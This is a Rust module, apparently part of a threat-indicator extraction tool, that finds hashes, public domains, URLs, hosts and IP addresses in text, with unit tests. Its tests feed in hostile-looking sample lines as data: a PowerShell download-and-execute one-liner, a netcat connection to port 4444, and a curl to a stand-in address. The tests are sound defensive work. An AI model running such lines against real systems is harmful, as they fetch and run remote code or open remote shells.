//! Finds names, addresses and hashes in text, and tells them from what only looks like them.

use std::net::IpAddr;

use crate::{IndicatorKind, address};

/// Hashes of no bytes at all: every host has such files.
const EMPTY_FILE: [&str; 3] = [
    "d41d8cd98f00b204e9800998ecf8427e",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
];

/// Says which hash a word can be; `None` if it is none, or a filler such as 32 zeros, or the hash of an empty file.
pub(crate) fn hash_kind(word: &str) -> Option<IndicatorKind> {
    let kind = match word.len() {
        32 => IndicatorKind::Md5,
        40 => IndicatorKind::Sha1,
        64 => IndicatorKind::Sha256,
        _ => return None,
    };
    let hex = word.bytes().all(|byte| byte.is_ascii_hexdigit());
    let filler = word.bytes().all(|byte| byte == word.as_bytes()[0]);
    let empty = EMPTY_FILE.iter().any(|hash| hash.eq_ignore_ascii_case(word));
    (hex && !filler && !empty).then_some(kind)
}

/// Gives a name in lower case if it can be a domain of the internet: two labels or more, and no top level of private use.
pub(crate) fn public_domain(name: &str) -> Option<String> {
    const PRIVATE: [&str; 14] = [
        "local",
        "localdomain",
        "localhost",
        "lan",
        "internal",
        "intranet",
        "private",
        "home",
        "corp",
        "domain",
        "workgroup",
        "arpa",
        "invalid",
        "test",
    ];
    let name = name.trim().trim_end_matches('.').to_lowercase();
    let (below, top) = name.rsplit_once('.')?;
    let label = |label: &str| {
        let letters = label.chars().all(|c| c.is_alphanumeric() || c == '-' || c == '_');
        letters && !label.is_empty() && label.len() <= 63 && !label.starts_with('-') && !label.ends_with('-')
    };
    let top_level = top.len() >= 2 && (top.starts_with("xn--") || top.chars().all(char::is_alphabetic));
    let sound = name.len() <= 253 && top_level && label(top) && below.split('.').all(label);
    (sound && !PRIVATE.contains(&top)).then_some(name)
}

/// Finds absolute URLs in text.
pub(crate) fn urls(text: &str) -> impl Iterator<Item = &str> {
    let mut rest = text;
    std::iter::from_fn(move || {
        loop {
            let at = rest.find("://")?;
            let (before, after) = rest.split_at(at);
            let scheme = before.bytes().rev().take_while(u8::is_ascii_alphabetic).count();
            let start = at - scheme;
            let length = after.find(ends_url).unwrap_or(after.len());
            let url = &rest[start..at + length];
            rest = &rest[at + length.max(3).min(after.len())..];
            let url = url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'']);
            let url = if url.contains('(') {
                url
            } else {
                url.trim_end_matches(')')
            };
            let known = ["http", "https", "ftp", "ftps", "ws", "wss"];
            if known
                .iter()
                .any(|known| url[..scheme.min(url.len())].eq_ignore_ascii_case(known))
            {
                return Some(url);
            }
        }
    })
}

fn ends_url(c: char) -> bool {
    c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | '<' | '>' | '{' | '}' | '|' | '\\' | '^')
}

/// Gives the host of an absolute URL, with its port if that is part of an address.
pub(crate) fn host(url: &str) -> Option<&str> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map_or(authority, |(_user, host)| host);
    if host.starts_with('[') {
        return host.split_once(']').map(|(ip, _)| &ip[1..]);
    }
    let host = host.split_once(':').map_or(host, |(host, _port)| host);
    (!host.is_empty()).then_some(host)
}

/// Finds addresses that stand as words in text.
pub(crate) fn addresses(text: &str) -> impl Iterator<Item = (IpAddr, Option<u16>)> {
    let part = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '[' | ']' | '-' | '_'));
    text.split(part).filter_map(|word| {
        let word = word.trim_end_matches(['.', ':']);
        // `::` and the like are operators in scripts far more often than addresses.
        let digits = word.bytes().filter(u8::is_ascii_digit).count();
        (digits >= 4 || word.len() >= 7).then(|| address::parse(word)).flatten()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_end_where_people_say_they_end() {
        let text = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1'); see https://x.example/a(b)?q=1, ftp://y.example. \
                    file://z http:// ://";
        let found: Vec<_> = urls(text).collect();
        assert_eq!(
            found,
            [
                "http://203.0.113.66/a.ps1",
                "https://x.example/a(b)?q=1",
                "ftp://y.example",
                "http://"
            ]
        );
        assert_eq!(host(found[0]), Some("203.0.113.66"));
        assert_eq!(host("http://u:p@h.example:8080/x"), Some("h.example"));
        assert_eq!(host("http://[2001:db8::1]:80/"), Some("2001:db8::1"));
        assert_eq!(host("http://"), None);
    }

    #[test]
    fn addresses_are_whole_words() {
        let found: Vec<_> =
            addresses("nc 203.0.113.66 4444; curl 198.51.100.7:8080/x v10.0.19041.746 [Ref]::x a::b 1.2.3.4.5")
                .map(|(ip, port)| (ip.to_string(), port))
                .collect();
        assert_eq!(
            found,
            [
                ("203.0.113.66".to_owned(), None),
                ("198.51.100.7".to_owned(), Some(8080))
            ]
        );
    }

    #[test]
    fn a_hash_is_only_what_can_be_one() {
        assert_eq!(hash_kind("087875B45857B2A20D4D64230AD402A4"), Some(IndicatorKind::Md5));
        for none in [
            "00000000000000000000000000000000",
            "d41d8cd98f00b204e9800998ecf8427e",
            "xyz",
            "087875B45857B2A20D4D64230AD402AG",
            "abc123",
        ] {
            assert_eq!(hash_kind(none), None, "{none}");
        }
    }

    #[test]
    fn domains_of_private_use_and_file_names_are_none() {
        assert_eq!(public_domain("Evil.Example.COM."), Some("evil.example.com".to_owned()));
        for none in [
            "wpad",
            "dc01.corp.local",
            "1.0.0.127.in-addr.arpa",
            "host.lan",
            "a..b",
            "-",
            "x.1",
            "_ldap._tcp.dc.internal",
            "",
        ] {
            assert_eq!(public_domain(none), None, "{none}");
        }
    }
}
